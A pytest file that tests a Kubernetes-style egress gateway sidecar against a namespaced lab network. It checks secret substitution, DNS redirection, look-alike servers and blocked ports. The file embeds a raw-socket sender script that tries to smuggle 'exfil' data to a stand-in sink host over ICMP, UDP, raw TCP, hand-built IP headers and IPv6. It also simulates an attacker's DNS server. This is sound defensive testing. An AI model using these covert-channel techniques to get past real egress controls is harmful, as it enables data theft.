"""The gateway as a pod's sidecar (`airlock gateway --sidecar`), in the shape of
deploy/kubernetes/airlock-sidecar.yaml, built on this machine:

  pod netns (one network namespace, as the containers of a pod share)       net netns ("the internet")
    init step:  airlock gateway init-redirect --gateway-uid 1337 (root)       nginx: api.example.com 203.0.113.10,
    sidecar:    airlock gateway --sidecar, uid 1337, no capabilities                 [2001:db8:2::10], other.example.com
                (the Secret's value file readable only by it)                        203.0.113.11, a look-alike .66
    app:        uid 1000 (CAP_NET_RAW where an attack needs it), placeholders   cluster DNS 203.0.113.53 (dnsmasq)
                in its env, the CA from the sidecar's shared volume             a DNS of the attacker's 203.0.113.54
    198.51.100.2 / 2001:db8:1::2 ─────────────── veth ───────────────── 198.51.100.1 / 2001:db8:1::1, sink 203.0.113.99

Assertions are on what the upstream received (nginx's JSON access log), on the attacker's own
servers, and on a packet counter in the net namespace, never on what the gateway says it did.
"""
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import textwrap
import time

import pytest

from netlab import Lab, assert_absent, assert_equal_secret, in_ns, run_clean, sh, stop, wait_for, wait_listening

AIRLOCK = os.environ.get("AIRLOCK_BIN", "")
TAG = str(os.getpid() % 100000)
POD, NET = f"alsp{TAG}", f"alsn{TAG}"
GATEWAY_UID, APP_UID = 1337, 1000
PH = "$MSB_API_KEY"
PY = "/usr/bin/python3"
EGRESS = ["--egress", "allow@203.0.113.0/24:tcp:443", "--egress", "allow@[2001:db8::/32]:tcp:443"]

assert os.geteuid() == 0 and AIRLOCK, "these tests need root and AIRLOCK_BIN"


def as_uid(uid, *args, caps=()):
    """args in the pod as uid (no groups; only `caps`, as ambient capabilities)."""
    capflags = []
    if caps:
        spec = ",".join("+" + c for c in caps)
        capflags = ["--inh-caps", spec, "--ambient-caps", spec]
    else:
        capflags = ["--inh-caps", "-all"]
    return ["ip", "netns", "exec", POD, "setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
            *capflags, "--", *args]


def dns_query(name, qtype=1):
    qid = 0x4242
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", qtype, 1)


def dns_a_answers(reply):
    """The A records of a reply to dns_query (no compression needed beyond the usual pointer)."""
    count = struct.unpack(">H", reply[6:8])[0]
    at = 12
    while reply[at] != 0:
        at += reply[at] + 1
    at += 5
    out = []
    for _ in range(count):
        at += 2 if reply[at] & 0xC0 == 0xC0 else len(reply[at:].split(b"\0", 1)[0]) + 1
        rtype, _, _, rdlen = struct.unpack(">HHIH", reply[at:at + 10])
        at += 10
        if rtype == 1:
            out.append(socket.inet_ntoa(reply[at:at + 4]))
        at += rdlen
    return out


class Pod:
    def __init__(self, lab):
        self.lab = lab
        self.path = lab.path
        self.value = "fake-sidecar-value-" + os.urandom(6).hex()
        self.gateway = None

    def setup(self):
        os.chmod(self.lab.dir, 0o755)  # the pod's users reach their own files below it
        self.network()
        self.certificates()
        self.servers()
        self.init_redirect()
        self.start_sidecar()

    def network(self):
        self.lab.netns(POD)
        self.lab.netns(NET)
        self.lab.veth(f"vp{TAG}", f"vn{TAG}", POD, NET)
        in_ns(POD, "ip", "addr", "add", "198.51.100.2/24", "dev", f"vp{TAG}")
        in_ns(POD, "ip", "-6", "addr", "add", "2001:db8:1::2/64", "dev", f"vp{TAG}", "nodad")
        in_ns(POD, "ip", "link", "set", f"vp{TAG}", "up")
        in_ns(POD, "ip", "route", "add", "default", "via", "198.51.100.1")
        in_ns(POD, "ip", "-6", "route", "add", "default", "via", "2001:db8:1::1")
        in_ns(NET, "ip", "addr", "add", "198.51.100.1/24", "dev", f"vn{TAG}")
        in_ns(NET, "ip", "-6", "addr", "add", "2001:db8:1::1/64", "dev", f"vn{TAG}", "nodad")
        in_ns(NET, "ip", "link", "set", f"vn{TAG}", "up")
        for last in (10, 11, 53, 54, 66, 99):
            in_ns(NET, "ip", "addr", "add", f"203.0.113.{last}/32", "dev", "lo")
        for ip6 in ("2001:db8:2::10", "2001:db8:99::1"):
            in_ns(NET, "ip", "-6", "addr", "add", f"{ip6}/128", "dev", "lo")
        # Counts every packet that reaches the sink addresses: what got out of the pod.
        in_ns(NET, "nft", "-f", self.lab.write("sink.nft", textwrap.dedent("""\
            table inet sink {
              chain pre {
                type filter hook prerouting priority -300; policy accept;
                ip daddr 203.0.113.99 counter
                ip6 daddr 2001:db8:99::1 counter
              }
            }
            """)))
        self.lab.netns_file(POD, "resolv.conf", "nameserver 203.0.113.53\n")
        self.lab.netns_file(POD, "hosts", "127.0.0.1 localhost\n::1 localhost\n")

    def certificates(self):
        self.lab.ca("test-ca")
        self.lab.leaf("server", "test-ca", "DNS:api.example.com,DNS:other.example.com")

    def dnsmasq(self, name, listen, records):
        self.lab.start(["ip", "netns", "exec", NET, "dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts",
                        "--bind-interfaces", f"--listen-address={listen}", "--port=53", "--user=root",
                        "--log-queries", f"--log-facility={self.path(name + '.log')}",
                        f"--pid-file={self.path(name + '.pid')}", *records], name + ".stderr")
        wait_listening(NET, [f"{listen}:53"], f"{name} listening", proto="udp")

    def servers(self):
        d = self.lab.dir
        self.upstream = self.lab.nginx(NET, {
            "uri": "$request_uri", "authorization": "$http_authorization", "server": "$server_addr",
        }, f"""\
            server {{
              listen 203.0.113.10:443 ssl; listen 203.0.113.11:443 ssl; listen 203.0.113.66:443 ssl;
              listen [2001:db8:2::10]:443 ssl;
              ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
              location / {{ echo "ok"; }}
            }}
            """)
        self.dnsmasq("cluster-dns", "203.0.113.53", [
            "--host-record=api.example.com,203.0.113.10,2001:db8:2::10", "--host-record=other.example.com,203.0.113.11"])
        self.dnsmasq("attacker-dns", "203.0.113.54", ["--address=/api.example.com/203.0.113.66"])

    def init_redirect(self):
        # The init container: root with CAP_NET_ADMIN, once.
        out = sh("ip", "netns", "exec", POD, AIRLOCK, "gateway", "init-redirect", f"--gateway-uid={GATEWAY_UID}").stdout
        assert "redirect installed" in out

    def start_sidecar(self):
        # The sidecar container: uid 1337, no capabilities; the Secret mounted only here.
        secret_dir = self.path("secret")
        os.mkdir(secret_dir, 0o700)
        with open(os.path.join(secret_dir, "api-key"), "w") as f:
            f.write(self.value + "\n")
        os.chmod(os.path.join(secret_dir, "api-key"), 0o400)
        shared, home = self.path("shared"), self.path("gateway-home")
        for d in (shared, home):
            os.mkdir(d, 0o755)
        for d in (secret_dir, os.path.join(secret_dir, "api-key"), shared, home):
            os.chown(d, GATEWAY_UID, GATEWAY_UID)
        self.config = self.lab.write("airlock.toml", textwrap.dedent(f"""\
            [network]
            on_secret_violation = "block-and-log"
            [[network.upstream_ca]]
            file = "{self.path('test-ca.pem')}"
            [[secret]]
            env = "API_KEY"
            value_from = "file:{secret_dir}/api-key"
            allow_hosts = ["api.example.com"]
            """))
        self.ca = os.path.join(shared, "ca.pem")
        self.audit = os.path.join(shared, "audit.jsonl")
        ready = self.path("sidecar.stdout")
        with open(ready, "w") as out:
            self.gateway = self.lab.start(
                as_uid(GATEWAY_UID, "env", f"AIRLOCK_HOME={home}", AIRLOCK, "gateway", "--sidecar",
                       "--config", self.config, "--audit-log", self.audit, "--export-ca", self.ca, *EGRESS),
                "sidecar.stderr", stdout=out)
        wait_for(lambda: "airlock gateway ready" in open(ready).read() or self.gateway.poll() is not None,
                 "the sidecar's ready line", timeout=20)
        assert self.gateway.poll() is None, open(self.path("sidecar.stderr")).read()
        self.ready_line = open(ready).read()

    def app(self, *args, caps=(), timeout=30):
        """A command of the app container: uid 1000, the placeholder in its env."""
        env = {"PATH": "/usr/bin:/bin", "API_KEY": PH, "HOME": "/tmp"}
        return run_clean(self.value, as_uid(APP_UID, *args, caps=caps), "the app", timeout=timeout, env=env)

    def curl(self, url, *extra):
        return self.app("curl", "-sS", "-m", "10", "--cacert", self.ca, "-H", f"Authorization: Bearer {PH}", *extra, url)

    def audit_records(self):
        with open(self.audit) as f:
            return [json.loads(line) for line in f]

    def sink_packets(self):
        return sum(int(n) for n in re.findall(r"packets (\d+)", in_ns(NET, "nft", "list", "table", "inet", "sink").stdout))

    def check_gateway_output(self):
        for name in ("sidecar.stderr", "sidecar.stdout", "shared/audit.jsonl"):
            assert_absent(self.value, open(self.path(name)).read(), name)


@pytest.fixture(scope="module")
def pod():
    with Lab("airlock-sidecar-") as lab:
        p = Pod(lab)
        p.setup()
        yield p
        p.check_gateway_output()
        stop(p.gateway)
        assert p.gateway.returncode == 0, open(p.path("sidecar.stderr")).read()


def test_ready_line_names_loopback_listeners_and_dns(pod):
    assert "transparent=127.0.0.1:15001,[::1]:15001" in pod.ready_line
    assert "dns=127.0.0.1:15053,[::1]:15053" in pod.ready_line
    assert open(pod.ca).read().startswith("-----BEGIN CERTIFICATE-----")


def test_app_cannot_read_the_secret_mounted_into_the_sidecar(pod):
    proc = pod.app("cat", pod.path("secret/api-key"))
    assert proc.returncode != 0 and "Permission denied" in proc.stderr


def test_substitution_through_the_redirect_and_the_pods_dns(pod):
    proc = pod.curl("https://api.example.com/sub-v4", "-4")
    assert proc.returncode == 0 and proc.stdout == "ok\n", proc.stderr
    [rec] = pod.upstream.wait_received("/sub-v4")
    assert_equal_secret(rec["authorization"], f"Bearer {pod.value}", "what api.example.com received")
    assert rec["server"] == "203.0.113.10"


def test_ipv6_is_redirected_and_pinned_too(pod):
    proc = pod.curl("https://api.example.com/sub-v6", "-6")
    assert proc.returncode == 0 and proc.stdout == "ok\n", proc.stderr
    [rec] = pod.upstream.wait_received("/sub-v6")
    assert_equal_secret(rec["authorization"], f"Bearer {pod.value}", "what api.example.com received over IPv6")
    assert rec["server"] == "2001:db8:2::10"


def test_violation_is_blocked_and_audited(pod):
    proc = pod.curl("https://other.example.com/violation")
    assert proc.returncode != 0
    time.sleep(0.3)
    pod.upstream.assert_not_received("/violation")
    assert any(r.get("event") == "violation" or "violation" in json.dumps(r) for r in pod.audit_records())


def test_dns_to_any_server_is_answered_by_the_gateway(pod):
    """The app asks a resolver of its own choosing (the attacker's, over UDP): the redirect sends
    the query to the gateway's forwarder, which asks the pod's resolver; the attacker sees nothing."""
    script = textwrap.dedent(f"""\
        import socket, sys
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(bytes.fromhex(sys.argv[1]), ("203.0.113.54", 53))
        print(s.recv(4096).hex())
        """)
    proc = pod.app(PY, "-c", script, dns_query("api.example.com").hex())
    assert proc.returncode == 0, proc.stderr
    assert dns_a_answers(bytes.fromhex(proc.stdout.strip())) == ["203.0.113.10"]
    assert "api.example.com" not in open(pod.path("attacker-dns.log")).read()


def test_own_name_resolution_earns_no_substitution(pod):
    """The app resolves api.example.com itself (to a look-alike server holding a valid certificate
    for the name): the address is not among the pod's DNS answers, so the placeholder is a
    violation there and the look-alike never sees the value."""
    proc = pod.curl("https://api.example.com/own-resolution", "--resolve", "api.example.com:443:203.0.113.66")
    assert proc.returncode != 0
    time.sleep(0.3)
    for rec in pod.upstream.received("/own-resolution"):
        assert_absent(pod.value, json.dumps(rec), "the look-alike's access log")
    assert not any(r["server"] == "203.0.113.66" and pod.value in r["authorization"]
                   for r in pod.upstream.received("/own-resolution"))


RAW_SENDER = textwrap.dedent("""\
    import socket, struct, sys
    sent = []
    def attempt(name, fn):
        try:
            fn(); sent.append(name)
        except OSError as e:
            sent.append(name + ":" + e.strerror)
    def icmp4():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"exfil"
        padded = body + b"\\0" * (len(body) % 2)
        c = sum(struct.unpack(">%dH" % (len(padded) // 2), padded))
        c = (c >> 16) + (c & 0xFFFF); c = ~(c + (c >> 16)) & 0xFFFF
        s.sendto(body[:2] + struct.pack(">H", c) + body[4:], ("203.0.113.99", 0))
    def raw_udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        s.sendto(struct.pack(">HHHH", 40000, 9999, 13, 0) + b"exfil", ("203.0.113.99", 0))
    def raw_tcp_syn():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        s.sendto(struct.pack(">HHIIBBHHH", 40001, 443, 1, 0, 5 << 4, 0x02, 65535, 0, 0), ("203.0.113.99", 0))
    def hdrincl():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        payload = struct.pack(">HHHH", 40002, 9999, 13, 0) + b"exfil"
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, 17, 0,
                         socket.inet_aton("198.51.100.2"), socket.inet_aton("203.0.113.99"))
        s.sendto(ip + payload, ("203.0.113.99", 0))
    def udp4():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("203.0.113.99", 9999))
    def udp6():
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"exfil", ("2001:db8:99::1", 9999))
    def icmp6():
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.sendto(struct.pack(">BBHHH", 128, 0, 0, 1, 1) + b"exfil", ("2001:db8:99::1", 0))
    def icmp6_as_neighbour_advert():
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.sendto(struct.pack(">BBHI16s", 136, 0, 0, 0, socket.inet_pton(socket.AF_INET6, "2001:db8:99::1")) + b"exfil",
                 ("2001:db8:99::1", 0))
    for name, fn in list(globals().items()):
        if callable(fn) and name not in ("attempt",) and fn.__module__ == "__main__":
            for _ in range(3):
                attempt(name, fn)
    print(" ".join(sent))
    """)


def test_raw_sockets_udp_icmp_and_ipv6_do_not_leave_the_pod(pod):
    before = pod.sink_packets()
    proc = pod.app(PY, "-c", RAW_SENDER, caps=("net_raw",))
    assert proc.returncode == 0, proc.stderr
    time.sleep(0.5)
    assert pod.sink_packets() == before, f"packets left the pod ({proc.stdout.strip()})"
    # The control: the same sender as the gateway's uid (excluded from the redirect) gets out, so
    # the counter counts and the app's packets were stopped by the redirect's rules.
    proc = run_clean(None, as_uid(GATEWAY_UID, PY, "-c", RAW_SENDER, caps=("net_raw",)), "the control")
    assert proc.returncode == 0, proc.stderr
    wait_for(lambda: pod.sink_packets() > before, "the control's packets at the sink", timeout=5)


def test_tcp_to_an_unallowed_port_is_reset_by_the_gateway(pod):
    proc = pod.app("curl", "-sS", "-m", "10", "http://203.0.113.99:8080/")
    assert proc.returncode != 0
    assert any(r.get("event") == "denied" or "8080" in json.dumps(r) for r in pod.audit_records())


def test_init_redirect_refuses_root_and_needs_net_admin(pod):
    proc = subprocess.run(["ip", "netns", "exec", POD, AIRLOCK, "gateway", "init-redirect", "--gateway-uid=0"],
                          capture_output=True, text=True, timeout=30)
    assert proc.returncode == 2 and "--gateway-uid" in proc.stderr
    # The app cannot lift the redirect (no CAP_NET_ADMIN), even with the tool at hand.
    proc = pod.app(AIRLOCK, "gateway", "init-redirect", "--remove")
    assert proc.returncode != 0 and "CAP_NET_ADMIN" in proc.stderr
    assert "airlock_sidecar" in in_ns(POD, "nft", "list", "tables").stdout


# ---------------------------------------------------------------- --redirect: one process installs and removes


def _start_redirecting(lab, ns, name):
    out_path = lab.path(f"{name}.stdout")
    out = open(out_path, "w")
    config = lab.write(f"{name}.toml", "[network]\non_secret_violation = \"block\"\n")
    home = lab.path(f"{name}-home")
    os.mkdir(home, 0o755)
    os.chown(home, GATEWAY_UID, GATEWAY_UID)
    proc = subprocess.Popen(["ip", "netns", "exec", ns, "env", f"AIRLOCK_HOME={home}", AIRLOCK, "gateway", "--sidecar",
                             "--redirect", f"--user={GATEWAY_UID}", "--config", config],
                            stdout=out, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: "ready" in open(out_path).read() or proc.poll() is not None, "the ready line", timeout=20)
    assert proc.poll() is None, proc.stderr.read()
    return proc


def _gateway_child(parent):
    children = sh("ps", "-o", "pid=,uid=", "--ppid", str(parent.pid)).stdout.split()
    # `ip netns exec` execs airlock, which forked the gateway.
    return int(children[0]), int(children[1])


def test_redirect_mode_installs_serves_unprivileged_and_removes_after_a_clean_stop():
    with Lab("airlock-redirect-") as lab:
        os.chmod(lab.dir, 0o755)
        ns = f"alsr{TAG}"
        lab.netns(ns)
        proc = _start_redirecting(lab, ns, "clean")
        try:
            rules = in_ns(ns, "nft", "list", "table", "inet", "airlock_sidecar").stdout
            assert f"meta skuid {GATEWAY_UID} return" in rules
            pid, uid = _gateway_child(proc)
            assert uid == GATEWAY_UID
            status = open(f"/proc/{pid}/status").read()
            assert re.search(r"^CapEff:\s+0+$", status, re.M), "the serving gateway holds capabilities"
            proc.send_signal(signal.SIGTERM)
            assert proc.wait(timeout=20) == 0, proc.stderr.read()
        finally:
            stop(proc)
        assert "airlock_sidecar" not in in_ns(ns, "nft", "list", "tables").stdout

        # A crash keeps the redirect: the workload fails closed instead of leaving unfiltered.
        proc = _start_redirecting(lab, ns, "crash")
        try:
            pid, _ = _gateway_child(proc)
            os.kill(pid, signal.SIGKILL)
            assert proc.wait(timeout=20) == 128 + signal.SIGKILL
            assert "redirect stays in place" in proc.stderr.read()
        finally:
            stop(proc)
        assert "airlock_sidecar" in in_ns(ns, "nft", "list", "tables").stdout
        in_ns(ns, AIRLOCK, "gateway", "init-redirect", "--remove")
        assert "airlock_sidecar" not in in_ns(ns, "nft", "list", "tables").stdout


def test_sidecar_refuses_to_serve_as_root_and_user_zero(tmp_path):
    config = tmp_path / "a.toml"
    config.write_text("[network]\n")
    proc = subprocess.run([AIRLOCK, "gateway", "--sidecar", "--config", str(config)], capture_output=True, text=True,
                          timeout=30)
    assert proc.returncode == 2 and "must not serve as root" in proc.stderr
    proc = subprocess.run([AIRLOCK, "gateway", "--sidecar", "--redirect", "--user=0", "--config", str(config)],
                          capture_output=True, text=True, timeout=30)
    assert proc.returncode == 2 and "--user 0" in proc.stderr
